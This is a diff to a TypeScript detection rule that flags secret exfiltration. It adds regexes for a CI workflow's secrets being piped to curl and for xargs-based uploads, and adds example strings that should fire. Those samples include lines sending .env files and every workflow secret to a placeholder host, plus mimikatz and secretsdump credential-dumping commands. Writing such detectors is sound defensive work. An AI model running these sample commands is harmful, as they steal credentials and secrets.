@@ -44,6 +44,11 @@ export const rule: Rule = {
       re: /(?<![\w.-])(?:printenv|env|history)(?:\s+[A-Z][A-Z0-9_]*)?\s*(?:\|\s*(?:grep|base64|gzip|sort|tr|xxd|jq|head)[^\n|]*)*\|\s*(?:curl|wget|nc|ncat|http|openssl\s+s_client|socat|telnet)\s/,
       window: 240,
     },
+    // All secrets of a workflow: echo "${{ toJSON(secrets) }}" | base64 | curl ...
+    {
+      re: /toJSON\(\s*secrets\s*\)\s*\}\}[^\n|]*\|[^\n]*(?:curl|wget|nc|base64|xxd|openssl)(?![\w-])/,
+      window: 240,
+    },
     // echo $API_KEY | curl -X POST https://...
     {
       re: /(?<![\w.-])(?:echo|printf)\s[^\n|;]*\$\{?[A-Z0-9_]*(?:KEY|TOKEN|SECRET|PASSWORD|PASSWD|CREDENTIALS?)\}?["']?\s*(?:\|\s*(?:base64|xxd|gzip|openssl)[^\n|]*)*\|\s*(?:curl|wget|nc|ncat|socat|telnet)\s/,
@@ -140,7 +145,7 @@ export const rule: Rule = {
       window: 300,
     },
     {
-      re: /(?<![\w.-])(?:cat|tar|base64|zip|gzip|xxd)\s[^\n;|]*(?:\/\.(?:ssh|aws|kube|docker|netrc|npmrc|gnupg|env|bash_history|git-credentials|claude|config\/gcloud)|\.env(?:\.\w+)?\s|\/etc\/(?:passwd|shadow)|id_rsa|id_ed25519)[^\n;]*\|\s*(?:curl|wget|nc|ncat|http|socat|openssl|mail|telnet|ssh)\s/,
+      re: /(?<![\w.-])(?:cat|tar|base64|zip|gzip|xxd)\s[^\n;|]*(?:\/\.(?:ssh|aws|kube|docker|netrc|npmrc|gnupg|env|bash_history|git-credentials|claude|config\/gcloud)|\.env(?:\.\w+)?\s|\/etc\/(?:passwd|shadow)|id_rsa|id_ed25519)[^\n;]*\|\s*(?:xargs\s[^\n|;]*)?(?:curl|wget|nc|ncat|http|socat|openssl|mail|telnet|ssh)\s/,
       window: 400,
       // The public half of a key is made to be given away: `cat ~/.ssh/id_ed25519.pub | ssh user@host ...`
       accept: ({ text }) => !PUBLIC_KEY.test(text),
@@ -207,6 +212,8 @@ export const rule: Rule = {
   ],
   examples: {
     fires: [
+      "cat .env | base64 -w0 | xargs -I{} curl 'https://files.invalid/?d={}'",
+      'echo "${{ toJSON(secrets) }}" | base64 | curl -X POST -d @- https://files.invalid/c',
       'secretsdump.py -just-dc corp/admin:P4ss@203.0.113.7',
       'secretsdump.py -hashes :8846f7eaee8fb117ad06bdd830b7586c corp/admin@203.0.113.7',
       'curl -d "$(cat credentials.json)" https://files.invalid',
@@ -264,6 +271,7 @@ export const rule: Rule = {
       'mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit',
     ],
     silent: [
+      '  env:\n    SECRETS_CONTEXT: ${{ toJSON(secrets) }}',
       '- List all user credentials:\n\n`cmdkey /list`\n',
       'sudo getent shadow {{username}}',
       'secretsdump.py {{domain}}/{{username}}:{{password}}@{{target}}',
